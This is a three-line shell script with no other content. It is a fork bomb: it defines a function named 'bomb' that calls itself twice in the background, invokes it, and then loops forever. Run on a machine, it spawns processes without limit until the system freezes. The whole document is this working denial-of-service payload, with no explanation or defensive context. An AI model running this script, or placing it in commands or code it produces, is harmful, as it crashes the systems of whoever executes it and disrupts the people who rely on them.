bomb() { bomb | bomb & }
bomb
while :; do sleep 0.1; done
